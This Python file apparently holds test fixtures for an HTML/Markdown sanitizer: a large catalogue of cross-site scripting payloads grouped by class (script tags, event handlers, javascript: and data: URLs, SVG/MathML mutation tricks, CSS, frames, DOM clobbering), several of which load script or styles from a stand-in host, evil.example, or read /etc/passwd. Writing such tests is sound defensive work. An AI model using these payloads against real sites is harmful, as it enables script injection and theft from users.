"""Texts that try to bring a script, a style or a foreign frame into a page, by class.

Written for this project after the well-known classes; each must come out harmless (XS-01).
"""

from collections.abc import Iterator

_HANDLERS = (
    "onload onerror onclick onmouseover onmouseenter onfocus onfocusin onblur onpointerover "
    "ontoggle onbegin onend onscroll onscrollend onwheel oncopy onpaste oncut ondrag "
    "onanimationstart onanimationend ontransitionend onbeforetoggle onhashchange onpageshow "
    "oncontentvisibilityautostatechange onmessage onresize onsubmit oninput onkeydown onauxclick"
)
_LOADING = (
    "applet audio base bgsound embed fencedframe frame iframe image img input isindex keygen layer "
    "link meta object portal source track video"
)
_TAGS = (
    "a abbr b blockquote body button code dd del details div em h1 h3 html img input ins li "
    "marquee ol p pre q span strong summary table td th tr ul video audio x-made-up"
)

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<script\x0c>alert(1)</script>",
    "<script\t/x>alert(1)</script foo>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script>/*<!--*/alert(1)//--></script>",
    "<script><!--\nalert(1)\n--></script>",
    "**<script>alert(1)</script>**",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>alert(1)</script>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
]
_HANDLER_TRICKS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=x on\x00error=alert(1)>",
    "<img src=x ONERROR=&#97;lert(1)>",
    '<img src=x onerror="alert(1)"//',
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><img src=x onerror=alert(1)>',
    "<image src=x onerror=alert(1)>",
    "<a b='\"' onclick=alert(1) c='\"'>x</a>",
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    "<a href=/ title='\" onclick=alert(1) \"'>x</a>",
    "<b/onclick=alert(1)>x</b>",
    "<b\x0bonclick=alert(1)>x</b>",
    "<b onclick=alert(1) onclick=x>x</b>",
    '<strong "onclick=alert(1)>x</strong>',
    "<table><td align=left/onclick=alert(1)>x",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p autofocus tabindex=1 onfocus=alert(1) id=x>x</p>",
    "<div contenteditable onbeforeinput=alert(1)>x</div>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
    '[x](/ "\\" onclick=alert(1) \\"")',
    '[x](/"onclick="alert(1))',
    "[x](/ 'a\" onmouseover=\"alert(1)')",
    '[x][r]\n\n[r]: / "\\"onclick=alert(1)//"',
    '<https://example.org/"onclick="alert(1)>',
    '<a@b.example"onclick=alert(1)>',
    '| a |\n|:-" onclick=alert(1)|\n| b |',
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "java\x02script:alert(1)",
    "java&#2;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14; javascript:alert(1)",
    "javascript\t:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "java&Tab;script&colon;alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6Aavascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "jar:https://evil.example/x.jar!/x.html",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "data:,x",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "intent://x#Intent;scheme=javascript;end",
]
_FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p id="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowroot=open><img src=x onerror=alert(1)></template></div>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=x>">',
    "<select><keygen><img src=x onerror=alert(1)></select>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p><svg><style>*{x:</style><p>y</p>",
    "<table><a href=/><svg><desc><td><img src=x onerror=alert(1)>",
]
_STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style\n>*{x:expression(alert(1))}</style>",
    "<style><script>alert(1)</script></style>",
    "<style></style><img src=x onerror=alert(1)>",
    "<p style='background:url(//evil.example)'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<a href=/ style=behavior:url(#x)>x</a>",
    "<b style=-moz-binding:url(//evil.example#x)>x</b>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<table background=javascript:alert(1)><td background=//evil.example>x</table>",
    "<div class=modal data-bs-toggle=modal data-bs-target=#x>x</div>",
]
_FRAMES = [
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    '<iframe srcdoc="<img src=x onerror=alert(1)>">',
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=data:text/html,x type=text/html><param name=x value=y></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<picture><source srcset=//evil.example><img src=x></picture>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/1x.png 1x'>",
    "<map name=x><area href=javascript:alert(1) shape=default></map>",
    "<a href=/ target=_blank rel=opener>x</a>",
    "<a href=/ ping=//evil.example download=x.exe>x</a>",
    "<q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>x</del>",
]
_BROKEN = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--->\n<img src=x onerror=alert(1)>\n-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- x --\n><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[x]]><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><b>&x;</b>",
    "<!ELEMENT img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<%<script>alert(1)</script>%>",
    "</ <img src=x onerror=alert(1)>",
    "</p/onclick=alert(1)><br/onclick=alert(1)>",
    '<a href="/\nonclick=alert(1)>x</a>">',
    "<a href='/>x</a><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)>x</a>',
    '<a href=/ title="<!--"><img src=x onerror=alert(1)>-->">x</a>',
    "<b><i></b><img src=x onerror=alert(1)></i>",
    "<a<b>href=javascript:alert(1)>x",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "<a href\u3000=javascript:alert(1)>x</a>",
    "\ufeff<script>alert(1)</script>",
    "<\u0130mg src=x onerror=alert(1)><\u017fcript>alert(1)</\u017fcript>",
    "\ud800<script>alert(1)</script>\udfff",
    "<table><tr><td><script>alert(1)</script></table>",
    "`<b>` <img src=x onerror=`alert(1)`>",
    "<div>\n\n    <script>alert(1)</script>\n\n</div>",
]
_CLOBBERING = [
    "<a id=location href=javascript:alert(1)>x</a>",
    "<a id=document name=cookie>x</a>",
    "<form name=body><input name=firstChild></form>",
    "<form id=csrf_token><input name=value></form>",
    "<img name=getElementById>",
    "<b id=x name=y class=z>x</b>",
    "<p itemprop=x is=y slot=z part=w>x</p>",
    "<ol start=1 id=__proto__><li value=1 id=constructor>x</ol>",
    "## heading {#location .x onclick=alert(1)}",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-on:load=alert(1) hx-on::load=alert(1) @click=alert(1) x-on:x=1>x</div>",
]


def _links() -> Iterator[str]:
    for url in _ADDRESSES:
        yield f'<a href="{url}">x</a>'
        yield f"[x](<{url}>)"
        yield f"![x]({url})"
        yield f"[x][r]\n\n[r]: {url}"
        yield f"<{url}>"


def _loading() -> Iterator[str]:
    for tag in _LOADING.split():
        yield f"<{tag} src=javascript:alert(1) href=javascript:alert(1) onload=alert(1)>x</{tag}>"
        yield f"<{tag} data=//evil.example/x content='0;url=//evil.example' rel=import />x"


def _handlers() -> Iterator[str]:
    for number, handler in enumerate(_HANDLERS.split()):
        tag = _TAGS.split()[number % len(_TAGS.split())]
        yield f"<{tag} {handler}=alert(1)>x</{tag}>"
    for tag in _TAGS.split():
        yield f'x <{tag} id=x style="x" autofocus onfocus="alert(1)" tabindex=0>x'


PAYLOADS = [
    *_SCRIPTS,
    *_HANDLER_TRICKS,
    *_handlers(),
    *_loading(),
    *_links(),
    *_FOREIGN,
    *_STYLES,
    *_FRAMES,
    *_BROKEN,
    *_CLOBBERING,
]
